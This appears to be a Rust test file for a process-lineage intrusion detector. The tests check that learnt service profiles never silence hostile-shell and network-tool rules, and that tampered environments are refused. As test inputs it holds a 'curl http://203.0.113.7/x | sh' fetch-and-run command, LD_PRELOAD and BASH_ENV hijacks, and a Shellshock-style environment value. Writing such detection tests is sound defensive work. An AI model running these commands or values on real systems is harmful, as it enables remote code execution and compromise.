//! What no profile takes: rules that are never learnt, tools, surroundings.

use super::*;

/// What the catalogue calls never learnable stays loud though the chain is in the profile.
#[test]
fn rules_that_are_never_learnt_stay_loud() {
    let hostile: &[&str] = &[
        "/usr/bin/dash",
        "sh",
        "-c",
        "curl http://203.0.113.7/x | sh",
    ];
    let text = format!(
        "version: 1\nservices:\n  - kind: php-fpm\n    unit: php8.2-fpm.service\n    uid: 33\n    chains:\n      - steps:\n          - exe: {}\n            args: [sh, -c, '{}']\n",
        hostile[0], hostile[3]
    );
    let lock = Lock::parse(&text).unwrap();
    let mut world = World::new(Mode::Alert, &lock);
    let (alerts, silenced) = world.see(subject(&[hostile]));
    assert!(
        alerts.contains(&"hostile_shell_command".to_owned()),
        "{alerts:?}"
    );
    assert!(
        silenced.contains(&"shell_under_app_worker".to_owned()),
        "{silenced:?}"
    );
}

#[test]
fn what_such_a_rule_matched_is_not_learnt_nor_what_is_below() {
    let mut world = World::new(Mode::Learn, &Lock::default());
    let hostile: &[&str] = &[
        "/usr/bin/dash",
        "sh",
        "-c",
        "curl http://203.0.113.7/x | sh",
    ];
    world.see(subject(&[hostile]));
    world.see(subject(&[hostile, &["/usr/bin/tool", "tool"]]));
    assert_eq!(world.chains(), Vec::<String>::new());
    let refused: Vec<_> = world
        .judge
        .learner()
        .refused()
        .map(|it| it.2.to_owned())
        .collect();
    assert_eq!(refused, ["rule hostile_shell_command is never learnt"]);
}

#[test]
fn what_a_late_match_condemns_is_taken_back() {
    let mut world = World::new(Mode::Learn, &Lock::default());
    let mut seen = subject(&[TOOL]);
    seen.profile = world.judge.stand(&seen).map(Arc::new);
    let seen = Arc::new(seen);
    world.judge.settle(&seen, Vec::new());
    assert_eq!(world.chains().len(), 1);
    let rules = world.detector.rules().list();
    let rule = rules
        .iter()
        .find(|rule| rule.name == "masqueraded_shell")
        .unwrap();
    let late = Match {
        updates: false,
        rule: Arc::clone(rule),
        subject: seen,
        fields: Arc::default(),
        incomplete: Vec::new(),
    };
    assert_eq!(world.judge.settle_late(vec![late]).alerts.len(), 1);
    assert!(world.chains().is_empty());
}

/// A rule that asks for exact entries is not silenced by placeholders.
#[test]
fn network_tools_need_every_argument() {
    let curl: &[&str] = &["/usr/bin/curl", "curl", "-s", "http://127.0.0.1/health"];
    let lock = learnt(&[&[curl]]);
    let mut world = World::new(Mode::Alert, &lock);
    let (alerts, silenced) = world.see(subject(&[curl]));
    assert_eq!(
        (alerts.len(), silenced),
        (0, vec!["network_tool_under_service".to_owned()])
    );
    let (alerts, _) = world.see(subject(&[&[
        "/usr/bin/curl",
        "curl",
        "-s",
        "http://203.0.113.7/health",
    ]]));
    assert!(alerts.contains(&"network_tool_under_service".to_owned()));

    let loose: &[&str] = &["/usr/bin/dash", "sh", "-c", "tool 12"];
    let below: &[&[&str]] = &[loose, curl];
    let lock = learnt(&[below]);
    let mut world = World::new(Mode::Alert, &lock);
    let (alerts, silenced) = world.see(subject(below));
    assert_eq!(silenced, Vec::<String>::new());
    assert!(
        alerts.contains(&"network_tool_under_service".to_owned()),
        "{alerts:?}"
    );
}

type Change = fn(&mut Program);

#[test]
fn surroundings_that_change_what_runs_are_refused() {
    let lock = learnt(&[&[TOOL]]);
    let changes: &[(Change, &str)] = &[
        (
            |it| it.env = vec![("LD_PRELOAD".into(), "/tmp/x.so".into())],
            "environment",
        ),
        (
            |it| it.env = vec![("X".into(), "() { :; }; id".into())],
            "environment",
        ),
        (
            |it| it.env = vec![("BASH_ENV".into(), "/tmp/x".into())],
            "environment",
        ),
        (|it| it.ns.mount = 7, "namespace"),
        (|it| it.image.unlinked = true, "unlinked"),
        (|it| it.args.truncated = true, "truncated"),
        (
            |it| {
                it.written = Some(Written {
                    root: ProcessId::new(1, 1),
                    age_ns: 1,
                });
            },
            "written",
        ),
    ];
    for (change, expected) in changes {
        let mut world = World::new(Mode::Alert, &lock);
        let standing = world
            .judge
            .stand(&changed(subject(&[TOOL]), change))
            .unwrap();
        assert_eq!(standing.mode, Mode::Alert);
        let Judgement::Refused(why, _) = standing.judgement else {
            panic!("{expected}: {standing:?}");
        };
        assert_eq!(why, *expected);
    }
    let mut world = World::new(Mode::Alert, &lock);
    let mut lost = subject(&[TOOL]);
    lost.lineage.elided = 1;
    assert_eq!(
        world.judge.stand(&lost).unwrap().judgement.name(),
        "refused"
    );
    let mut elided = subject(&[TOOL]);
    elided.lineage.ancestors.last_mut().unwrap().chain_elided = 1;
    assert_eq!(
        world.judge.stand(&elided).unwrap().judgement.name(),
        "refused"
    );
    let mut written = subject(&[TOOL]);
    written.script_written = Some(Written {
        root: ProcessId::new(1, 1),
        age_ns: 1,
    });
    assert_eq!(
        world.judge.stand(&written).unwrap().judgement.name(),
        "refused"
    );
}

#[test]
fn a_library_that_the_service_itself_preloads_is_its_own_affair() {
    let lock = learnt(&[&[TOOL]]);
    let variable = || vec![("LD_PRELOAD".into(), "/srv/jemalloc.so".into())];
    let mut preloaded = changed(subject(&[TOOL]), |it| it.env = variable());
    let root = preloaded.lineage.ancestors.first_mut().unwrap();
    let mut server = (**root.program.as_ref().unwrap()).clone();
    server.env = variable();
    root.program = Some(Arc::new(server));
    let mut world = World::new(Mode::Alert, &lock);
    assert_eq!(
        world.judge.stand(&preloaded).unwrap().judgement.name(),
        "known"
    );
}
